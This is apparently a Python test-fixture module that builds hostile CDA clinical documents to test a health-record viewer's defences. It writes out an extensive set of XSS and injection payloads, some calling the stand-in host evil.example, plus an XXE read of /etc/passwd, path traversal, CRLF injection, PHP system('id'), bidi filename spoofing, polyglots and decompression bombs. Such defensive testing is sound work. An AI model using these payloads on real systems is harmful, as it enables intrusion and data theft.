"""Documents made to do harm once somebody opens them (security T15), as their authors would send them: CDA, each about nobody.

What runs, if anything does, says so: it opens a dialog, marks the page, and asks a host that does not exist.
"""

from __future__ import annotations

import base64
import re
import sys
from pathlib import Path

from carnet.demo import documents
from carnet.demo.dicom_manifest import manifest
from carnet.demo.documents import Draft

sys.path.insert(0, str(Path(__file__).parents[1] / "viewing"))

from hostile_files import ACTIVE_PDFS, POLYGLOTS, REFUSED, gzipped, page_pdf, png, real, stream, zipped

ELSEWHERE = "https://evil.example"
RUN = f"alert('ran');document.documentElement.dataset.ran=1;fetch('{ELSEWHERE}/ran')"
SCRIPT = f"<script>{RUN}</script>"
IMAGE = f'<img src=x onerror="{RUN}">'
_WRAPPED = re.compile(rb'(<text mediaType=")[^"]*(" representation="B64">)[^<]*')


def xml(text: str) -> str:
    """Text as it stands in an attribute or between tags."""
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


TITLES = {
    "title of markup": SCRIPT,
    "title that leaves its attribute": f'"\'><svg onload="{RUN}">',
    "title for a template": "{{ 7 * 7 }}{% for one in ().__class__.__mro__ %}x{% endfor %}",
    "title of two lines": "a\r\nSet-Cookie: seance=x\r\n\r\n<html>",
    "title written backwards": "Facture \u202efdp.exe",
    "title of isolates": "\u2067\u2066Ordonnance\u2069 \u200f\u061cgpj.js",
    "title that is a path": "../../../etc/passwd;filename*=utf-8''a.html",
    "title without an end": "A" * 60 + "\u202e" + "B" * 60,
}

NARRATIVES = {
    "script": SCRIPT,
    "script of XHTML": f'<x:script xmlns:x="http://www.w3.org/1999/xhtml">{RUN}</x:script>',
    "script in CDATA": f"<![CDATA[{SCRIPT}]]>",
    "script written out": xml(SCRIPT),
    "script written out twice": xml(xml(SCRIPT)),
    "link that is a script": f'<linkHtml href="javascript:{xml(RUN)}">lire</linkHtml>',
    "link that is a script, in other letters": f'<linkHtml href=" JaVa&#9;Sc&#10;RiPt:{xml(RUN)}">lire</linkHtml>',
    "link to a page of data": f'<linkHtml href="data:text/html,{xml(SCRIPT)}">lire</linkHtml>',
    "link of Visual Basic": '<linkHtml href="vbscript:msgbox(1)">lire</linkHtml>',
    "link that is our own host to the eye": '<linkHtml href="https://space.test@evil.example/">lire</linkHtml>',
    "link to where one signs out": '<linkHtml href="/deconnexion">lire</linkHtml>',
    "attributes of a table": f'<table onmouseover="{xml(RUN)}" border="1" style="background:url({ELSEWHERE}/t)"><tbody><tr><td onclick="{xml(RUN)}" background="{ELSEWHERE}/b">c</td></tr></tbody></table>',
    "attribute that leaves itself": f'<table border="1&quot; onload=&quot;{xml(RUN)}"><tr><td width="&quot;&gt;{xml(SCRIPT)}">c</td></tr></table>',
    "style that leaves itself": f'<content styleCode="Bold&quot;&gt;{xml(IMAGE)}">s</content>',
    "name that leaves itself": f'<content ID="&quot;&gt;{xml(IMAGE)}">n</content>',
    "language that leaves itself": f'<content language="fr&quot;&gt;{xml(IMAGE)}">l</content>',
    "span that leaves itself": f'<table><tr><td colspan="2&quot;&gt;{xml(IMAGE)}">c</td></tr></table>',
    "drawing": f'<s:svg xmlns:s="http://www.w3.org/2000/svg" onload="{xml(RUN)}"><s:a href="javascript:{xml(RUN)}"><s:text>t</s:text></s:a></s:svg>',
    "formula": f'<m:math xmlns:m="http://www.w3.org/1998/Math/MathML"><m:maction actiontype="statusline" href="javascript:{xml(RUN)}">f</m:maction></m:math>',
    "frame": f'<iframe src="javascript:{xml(RUN)}"/><iframe srcdoc="{xml(SCRIPT)}"/><frame src="{ELSEWHERE}"/>',
    "object": f'<object data="{ELSEWHERE}/o"/><embed src="{ELSEWHERE}/e"/><applet code="x"/>',
    "page that moves": f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}"/><base href="{ELSEWHERE}"/>',
    "style sheet": f'<style>@import \'{ELSEWHERE}/s\'</style><link rel="stylesheet" href="{ELSEWHERE}/l"/>',
    "form": f'<form action="{ELSEWHERE}"><input name="a" autofocus="" onfocus="{xml(RUN)}"/><button formaction="javascript:{xml(RUN)}">b</button></form>',
    "media": f'<video src="{ELSEWHERE}/v" onerror="{xml(RUN)}"/><audio src="{ELSEWHERE}/a"/><img src="{ELSEWHERE}/i" onerror="{xml(RUN)}"/>',
    "markup that changes when it is read again": f'<noscript><p title="&lt;/noscript&gt;{xml(IMAGE)}">m</p></noscript><textarea>&lt;/textarea&gt;{xml(IMAGE)}</textarea>',
    "text without markup that opens some": f"<plaintext>&lt;/plaintext&gt;{xml(SCRIPT)}</plaintext><xmp>&lt;/xmp&gt;{xml(SCRIPT)}</xmp><title>&lt;/title&gt;{xml(SCRIPT)}</title>",
    "comment that ends": f"<!--> {SCRIPT} -->c",
    "instruction": f'<?xml-stylesheet type="text/xsl" href="{ELSEWHERE}/x.xsl"?><?php system("id") ?>p',
    "footnote that leaves itself": f'<footnoteRef IDREF="&quot;&gt;{xml(IMAGE)}"/>',
    "picture of another host": '<renderMultiMedia referencedObject="far"/>',
    "picture that is none": f'<renderMultiMedia referencedObject="&quot;&gt;{xml(SCRIPT)} javascript:{xml(RUN)}"/>',
    "one in another without end": "<content>" * 200 + "d" + "</content>" * 200,
    "custom element": f'<xss-x onanimationstart="{xml(RUN)}" style="animation-name:x" contenteditable="" onfocus="{xml(RUN)}" tabindex="1" autofocus="">x</xss-x>',
    "template": f'<template><content>{SCRIPT}</content></template><slot onslotchange="{xml(RUN)}"/>',
}

PICTURES = {
    # what it says that it is, and what it is
    "drawing that is called one": ("image/svg+xml", f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}">{SCRIPT}</svg>'.encode()),
    "drawing that is called a PNG": ("image/png", f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"/>'.encode()),
    "page that is called a JPEG": ("image/jpeg", b"<html>" + SCRIPT.encode()),
    "page that is called a page": ("text/html", b"<html>" + SCRIPT.encode()),
    "picture whose kind leaves its place": (f'image/png"><script>{RUN}</script>', real("PNG")),
    "picture with a page behind it": ("image/jpeg", real("JPEG") + b"<html>" + SCRIPT.encode()),
    "picture and archive": ("image/gif", real("GIF") + zipped(1000)),
    "picture of a thousand million dots": ("image/png", png(40_000, 40_000, bytes(1000))),
    "archive of ten million bytes": ("application/zip", zipped()),
    "packed ten million bytes": ("image/tiff", gzipped(bytes(10_000_000))),
    "program": ("application/octet-stream", b"MZ" + bytes(100)),
    "script": ("text/javascript", RUN.encode()),
}  # fmt: skip

HOSTILE_STYLESHEET = (
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:msxsl="urn:schemas-microsoft-com:xslt">'
    f'<xsl:import href="{ELSEWHERE}/i.xsl"/><xsl:variable name="far" select="document(\'{ELSEWHERE}/d.xml\')"/>'
    f'<msxsl:script language="JScript">{xml(RUN)}</msxsl:script>'
    f'<xsl:template match="/"><html xmlns=""><body onload="{xml(RUN)}">{SCRIPT}<xsl:copy-of select="$far"/></body></html></xsl:template>'
    '<data xmlns="urn:asip-sante:ci-sis">%s</data></xsl:stylesheet>'
)
_BIG_PAGE = page_pdf(content=b"q 0 0 595 842 re f Q\n" * 20_000)
_BOMB = gzipped(bytes(20_000_000))[10:-8]
_PACKED_PAGE = page_pdf(page=b"/Thumb 6 0 R", more=(stream(_BOMB, b"/Filter/FlateDecode"),))


def wrapping(about: Draft, media_type: str, content: bytes) -> bytes:
    """A level 1 document that wraps a file under this name of a kind."""
    whole = documents.level_1(about, media_type="text/plain")
    return _WRAPPED.sub(lambda found: found[1] + media_type.encode() + found[2] + base64.b64encode(content), whole)


def narrated(about: Draft, narrative: str, entries: str = "") -> bytes:
    """A structured document with one section of this narrative."""
    code = '<code code="18719-5" codeSystem="2.16.840.1.113883.6.1" displayName="Biochimie"/>'
    section = f"<section>{code}<title>Biochimie</title><text>{narrative}</text>{entries}</section>"
    return documents.structured_lab_report(about, f"<component>{section}</component>")


def pictured(about: Draft, media_type: str, content: bytes) -> bytes:
    """One whose narrative shows a file of its own."""
    packed = base64.b64encode(content).decode()
    value = f'<value mediaType="{xml(media_type)}" representation="B64">{packed}</value>'
    entry = f'<entry><observationMedia classCode="OBS" moodCode="EVN" ID="one">{value}</observationMedia></entry>'
    return narrated(about, 'Voir <renderMultiMedia referencedObject="one"/>', entry)


_FAR = (
    '<entry><observationMedia classCode="OBS" moodCode="EVN" ID="far"><value mediaType="image/png">'
    f'<reference value="{ELSEWHERE}/far.png"/></value></observationMedia></entry>'
)


def sent(created: int) -> dict[str, bytes]:
    """Every document, by what is hostile in it."""
    about = {"created": created}
    found = {
        **{name: documents.level_3(Draft(title=title, **about)) for name, title in TITLES.items()},
        **{f"narrative: {name}": narrated(Draft(**about), text, _FAR) for name, text in NARRATIVES.items()},
        **{f"picture: {name}": pictured(Draft(**about), *one) for name, one in PICTURES.items()},
        **{f"PDF: {name}": wrapping(Draft(**about), "application/pdf", one) for name, one in ACTIVE_PDFS.items()},
        **{f"two at once: {name}": _disguised(Draft(**about), one) for name, one in POLYGLOTS.items()},
        **{f"in disguise: {name}": _disguised(Draft(**about), one) for name, one in REFUSED.items()},
        "PDF: a page of many strokes": wrapping(Draft(**about), "application/pdf", _BIG_PAGE),
        "PDF: a stream of twenty million bytes": wrapping(Draft(**about), "application/pdf", _PACKED_PAGE),
    }
    found["a stylesheet of its own"] = _presenting(documents.level_3(Draft(**about)))
    named = documents.level_3(Draft(**about))
    found["header of markup"] = named.replace(b'displayName="Biochimie"', f'displayName="{xml(SCRIPT)}"'.encode())
    return found


def refused_at_the_door(created: int) -> dict[str, bytes]:
    """What no author can put in: the door reads it and says no. Reading them, were they in, must be as harmless."""
    whole = documents.level_1(Draft(created=created))
    body = re.compile(rb"<nonXMLBody>.*</nonXMLBody>", re.DOTALL)
    plain = documents.level_3(Draft(created=created))
    return {
        "a body that is elsewhere": body.sub(
            f'<nonXMLBody><text mediaType="text/html"><reference value="javascript:{xml(RUN)}"/></text></nonXMLBody>'.encode(),
            whole,
        ),
        "a body that is a page": wrapping(Draft(created=created), "text/html", b"<html>" + SCRIPT.encode()),
        "a page called a PDF": wrapping(Draft(created=created), "application/pdf", b"<html>" + SCRIPT.encode()),
        "entities": plain.replace(
            b"<ClinicalDocument",
            b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;"><!ENTITY f SYSTEM "file:///etc/passwd">]><ClinicalDocument',
            1,
        ),
        "a manifest with a program in front": b"MZ" + bytes(126) + manifest(Draft(created=created), "1.2.3")[128:],
    }


def _disguised(about: Draft, content: bytes) -> bytes:
    """A file under the name that the door believes, of a text if it may be one, or else as a picture inside a document."""
    kind = _kind(content)
    is_text = bool(content.strip()) and b"\x00" not in content[:4096]
    believed = kind != "text/plain" or is_text
    return wrapping(about, kind, content) if believed else pictured(about, "image/png", content)


def _kind(content: bytes) -> str:
    beginnings = {
        b"%PDF": "application/pdf",
        b"\xff\xd8\xff": "image/jpeg",
        b"II*\x00": "image/tiff",
        b"{\\rt": "text/rtf",
    }
    return next((kind for start, kind in beginnings.items() if content.startswith(start)), "text/plain")


def _presenting(document: bytes) -> bytes:
    """A document inside a stylesheet that would show it, and do more."""
    declaration, inner = document.split(b"\n", 1)
    outer = HOSTILE_STYLESHEET.encode().replace(b"%s", inner)
    return b"\n".join([declaration, b'<?xml-stylesheet type="text/xsl" href="#"?>', outer])
